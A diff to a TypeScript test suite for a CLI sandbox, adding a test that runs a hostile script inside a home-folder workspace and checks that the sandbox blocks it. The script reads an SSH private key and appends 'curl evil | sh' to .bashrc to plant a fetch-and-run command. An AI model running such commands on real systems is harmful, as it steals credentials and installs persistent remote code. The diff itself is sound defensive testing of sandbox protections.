@@ -120,9 +120,10 @@ describe.each(who.map((w) => [w.label, w] as const))("as %s", (_label, id: Ident
     };
 
     /** Runs `script` in the sandbox through the CLI, as this identity. */
-    const attack = async (script: string, opts: { args?: string[]; env?: Record<string, string>; timeoutS?: number } = {}) => {
-      const r = await runCliAs(id, ["sandbox", "exec", "--backend", backend, "--cwd", ws, "--timeout", String(opts.timeoutS ?? 60), ...(opts.args ?? []), "--", script], {
-        cwd: ws,
+    const attack = async (script: string, opts: { args?: string[]; env?: Record<string, string>; timeoutS?: number; cwd?: string } = {}) => {
+      const cwd = opts.cwd ?? ws;
+      const r = await runCliAs(id, ["sandbox", "exec", "--backend", backend, "--cwd", cwd, "--timeout", String(opts.timeoutS ?? 60), ...(opts.args ?? []), "--", script], {
+        cwd,
         env: { HOME: fakeHome, ...opts.env },
         timeoutMs: 120_000,
       });
@@ -364,6 +365,25 @@ describe.each(who.map((w) => [w.label, w] as const))("as %s", (_label, id: Ident
       } finally {
         settings({});
       }
+    });
+
+    it.skipIf(!!unusable)("with the home folder as the workspace: its credentials stay hidden and its shell startup files protected", async () => {
+      const h = join(base, "home-as-workspace");
+      mkdirSync(join(h, ".ssh"), { recursive: true });
+      writeFileSync(join(h, ".ssh", "id_ed25519"), `HOME-SSH-KEY-${tag}\n`);
+      writeFileSync(join(h, ".bashrc"), "# rc\n");
+      chownTree(h, id);
+      const r = await attack(
+        "cat .ssh/id_ed25519 2>/dev/null; echo 'curl evil | sh' >> .bashrc 2>/dev/null && echo RC-WRITTEN; echo 'evil' > .profile; echo ok > notes.txt && echo wrote-notes; echo end-of-attack",
+        { cwd: h, env: { HOME: h } },
+      );
+      expect(r.out).toContain("end-of-attack");
+      expect(r.out).toContain("wrote-notes");
+      expect(r.out).not.toContain(`HOME-SSH-KEY-${tag}`);
+      expect(r.out).not.toContain("RC-WRITTEN");
+      expect(readFileSync(join(h, ".bashrc"), "utf8")).toBe("# rc\n");
+      expect(existsSync(join(h, ".profile"))).toBe(false);
+      expect(r.err).toContain(`the command created ${join(h, ".profile")}, a protected path (the shell runs it)`);
     });
 
     it.skipIf(!!unusable)("stops a fork bomb at the process limit, and leaves nothing running", async () => {
